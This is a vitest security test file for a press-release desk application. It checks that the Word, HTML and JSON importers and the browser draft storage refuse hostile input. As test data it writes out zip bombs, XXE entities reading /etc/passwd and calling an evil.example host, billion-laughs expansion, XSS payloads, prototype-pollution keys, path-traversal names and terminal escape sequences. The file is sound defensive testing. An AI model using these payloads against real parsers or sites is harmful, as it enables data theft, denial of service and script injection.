/** Files that somebody sends to staff, or puts in their way: each ends in a sentence, and none in a page that stands still. */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { zipSync } from 'fflate';
import { describe, expect, onTestFinished, test } from 'vitest';
import { sentence } from '../../src/content/BrokenContent';
import { check } from '../../src/content/check';
import { readSavedDraft, savedDraft } from '../../src/desk/draft/savedDraft';
import { importRelease } from '../../src/desk/importer/importRelease';
import { readFile, UnreadableFile } from '../../src/desk/importer/readFile';
import { readHtml } from '../../src/desk/importer/readHtml';
import { visible } from '../../src/site/release/report';
import { loadDeskWords } from '../../src/i18n/words';
import { draftOf } from '../desk/draft/draftOf';
import { realContent } from '../realContent';

const { network, releases } = realContent();
const [published] = releases;
const t = await loadDeskWords('en');
const bytes = (text: string) => new TextEncoder().encode(text);
const namespace = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

function word(xml: string, name = 'word/document.xml') {
  return zipSync({ [name]: bytes(xml) }, { level: 6 });
}

const document = (body: string, before = '') =>
  `<?xml version="1.0"?>${before}<w:document ${namespace}><w:body>${body}</w:body></w:document>`;
const said = (words: string) => `<w:p><w:r><w:t>${words}</w:t></w:r></w:p>`;

async function failureOf(file: Uint8Array): Promise<unknown> {
  const failure: unknown = await readFile('release.docx', file).catch((error: unknown) => error);
  return failure instanceof UnreadableFile ? failure.kind : failure;
}

/** The same archive, telling another size of what is packed in it than is true. */
function lyingAboutSize(zip: Uint8Array, size: number): Uint8Array {
  const lying = zip.slice();
  const view = new DataView(lying.buffer);
  for (let at = 0; at < lying.length - 4; at += 1) {
    const signature = view.getUint32(at, true);
    if (signature === 0x04034b50) view.setUint32(at + 22, size, true);
    if (signature === 0x02014b50) view.setUint32(at + 24, size, true);
  }
  return lying;
}

describe('A Word document', () => {
  const bomb = word(document(said(' '.repeat(45_000_000))));

  test('that unpacks to a thousand times its size is refused, also where it lies about it', async () => {
    expect(bomb.length).toBeLessThan(60_000);
    expect(await failureOf(bomb)).toBe('broken');
    expect(await failureOf(lyingAboutSize(bomb, 10_000))).toBe('broken');
    expect(await failureOf(lyingAboutSize(word(document(said('Words.'))), 2 ** 31))).toBe('broken');
  });

  test.each([
    ['a file of the reader’s', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'],
    ['somebody’s server', '<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/?from=desk">]>'],
    ['a billion words', `<!DOCTYPE x [<!ENTITY a "w"><!ENTITY y "${'&a;'.repeat(1_000)}">]>`],
  ])('whose entity stands for %s is refused', async (_, doctype) => {
    expect(await failureOf(word(document(said('&y;'), doctype)))).toBe('broken');
  });

  test.each(['&constructor;', '&__proto__;', '&toString;', '&#x110000;', '&#0;', '<w:t>', '\u0000'])(
    'that holds %j is refused',
    async (odd) => {
      expect(await failureOf(word(document(said(odd))))).toBe('broken');
    },
  );

  test('that is nested a hundred thousand deep is refused at once', async () => {
    const deep = '<w:del>'.repeat(100_000) + '</w:del>'.repeat(100_000);
    expect(await failureOf(word(document(`<w:p>${deep}</w:p>`)))).toBe('broken');
    const unended = '<w:numPr>'.repeat(1_000_000);
    expect(await failureOf(word(document(unended)))).toBe('broken');
  });

  test('whose parts lie elsewhere holds none', async () => {
    for (const name of ['../word/document.xml', '/word/document.xml', 'constructor']) {
      expect(await failureOf(word(document(said('Words.')), name)), name).toBe('broken');
    }
  });

  test('with attributes and styles called so is read', async () => {
    const odd = `<w:p><w:pPr><w:pStyle w:val="__proto__" w:constructor="x"/></w:pPr><w:r><w:t>Words.</w:t></w:r></w:p>`;
    expect(await readFile('release.docx', word(document(odd)))).toBe('Words.\n');
  });
});

test('A page’s scripts, handlers and addresses are no words of it', () => {
  const page = `<p>One <script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">two</a><svg><script>x</script></svg> three.</p><iframe src="https://evil.example"></iframe><p>&lt;b&gt;Four&lt;/b&gt;</p>`;
  expect(readHtml(page)).toBe('One two three.\n\n<b>Four</b>\n');
});

test('A page that would become millions of elements, or take minutes, is refused at once', async () => {
  const bombs = [
    '<div>'.repeat(400_000),
    Array.from({ length: 100_000 }, (_, index) => `<font color=${index}><p>`).join(''),
    '<table><tr><td>'.repeat(100_000),
    '<svg>'.repeat(200_000),
  ];
  for (const bomb of bombs) {
    const failure: unknown = await readFile('release.html', bytes(bomb)).catch((error: unknown) => error);
    expect(failure, bomb.slice(-40)).toBeInstanceOf(UnreadableFile);
  }
});

test('A text longer than any release is refused in a sentence, at once', () => {
  const text = 'FOR IMMEDIATE RELEASE “We stay,” said Ana Ruiz. '.repeat(100_000);
  expect(importRelease([{ name: 'a.txt', text }], network).refused).toEqual({ kind: 'tooLong' });
});

describe('A draft in the browser’s storage', () => {
  const draft = { ...draftOf(published!), findings: [] };
  const all = () => true;
  const tampered = (change: (kept: any) => void) => {
    const kept: unknown = JSON.parse(savedDraft(draft));
    change(kept);
    return JSON.stringify(kept);
  };

  test.each<[string, string]>([
    ['nothing', ''],
    ['no JSON', '{"version":1,'],
    ['null', 'null'],
    ['a list', '[]'],
    ['another version’s', tampered((kept) => (kept.version = 99))],
    ['one with a field too many', tampered((kept) => (kept.draft.html = '<b>'))],
    ['one that points outside its text', tampered((kept) => (kept.draft.headline.en.end = 1e9))],
    ['one that points to a text that isn’t there', tampered((kept) => (kept.draft.headline.en.text = 7))],
    ['one with a span that ends before it begins', tampered((kept) => (kept.draft.headline.en.start = 1e9))],
    ['one with a list where words are', tampered((kept) => (kept.draft.texts[0].text = ['x']))],
    ['nested a hundred thousand deep', '['.repeat(100_000) + ']'.repeat(100_000)],
    ['five million signs', JSON.stringify({ version: 1, draft: 'w'.repeat(5_000_000) })],
  ])('that is %s is none', (_, text) => {
    expect(readSavedDraft(text, all)).toBeNull();
  });

  test('that tries to change what all objects have changes nothing', () => {
    const poison = '"__proto__":{"isPolluted":true},"constructor":{"prototype":{"isPolluted":true}},';
    const text = savedDraft(draft).replaceAll('{', `{${poison}`).replaceAll(',}', '}');
    const read = readSavedDraft(text, all);
    expect(({} as { isPolluted?: true }).isPolluted).toBeUndefined();
    if (read) expect(Object.getPrototypeOf(read)).toBe(Object.prototype);
    expect(JSON.stringify(read ?? '')).not.toContain('isPolluted');
  });
});

describe('Content', () => {
  const files = (text: string) => [{ path: 'network.json', text }];
  const saidOf = (text: string) => check(files(text)).problems.map(sentence);
  const real = JSON.stringify(network);

  test.each(['[', '{"a":', '[{"a":'])('nested a hundred thousand deep is named: %s', (open) => {
    expect(saidOf(open.repeat(100_000))).toEqual([
      'network.json: is nested deeper than 20 lists and objects',
    ]);
  });

  test.each(['__proto__', 'constructor', 'toString', '\\u005f_proto__'])(
    'with a key that every object has is named, with the place: %s',
    (key) => {
      const name = JSON.parse(`"${key}"`) as string;
      expect(saidOf(real.replace('"mission":{', `"mission":{"${key}":{"isPolluted":true},`))).toEqual([
        `network.json: mission.${name}: is no field of this format`,
      ]);
      expect(({} as { isPolluted?: true }).isPolluted).toBeUndefined();
      const moved = JSON.stringify({ ...network, redirects: 0 }).replace(
        '"redirects":0',
        `"redirects":{"${key}":"/about/"}`,
      );
      expect(saidOf(moved)[0]).toBe(`network.json: redirects.${name}: is no field of this format`);
    },
  );
});

test('A terminal obeys nothing that stands in a text or a file’s name', () => {
  const line = visible('a\u001b[2Jb\u009b1mc\u202ed\u0007\n한국어 “é” 👩‍👩‍👧');
  expect(line).toBe('a<U+001B>[2Jb<U+009B>1mc<U+202E>d<U+0007>\n한국어 “é” 👩‍👩‍👧');
});

test('In a terminal such a file is told in one line, beside content that is no better', () => {
  const folder = mkdtempSync(path.join(tmpdir(), 'hostile-'));
  onTestFinished(() => rmSync(folder, { recursive: true }));
  mkdirSync(path.join(folder, 'content/releases'), { recursive: true });
  writeFileSync(path.join(folder, 'content/network.json'), JSON.stringify(network));
  writeFileSync(path.join(folder, 'content/releases/2025-01-01-deep.json'), '['.repeat(100_000));
  const bomb = path.join(folder, 'bo\u001b[2Jmb.docx');
  writeFileSync(bomb, word(document(said(' '.repeat(45_000_000)))));
  const { stderr, stdout, status } = spawnSync(process.execPath, ['src/site/run.js', 'release', bomb], {
    cwd: path.join(import.meta.dirname, '../..'),
    encoding: 'utf8',
    env: { ...process.env, CONTENT_DIR: path.join(folder, 'content') },
  });
  expect([status, stdout]).toEqual([1, '']);
  expect(stderr).toBe(`${visible(bomb)}: ${t('file.broken')}\n`);
});
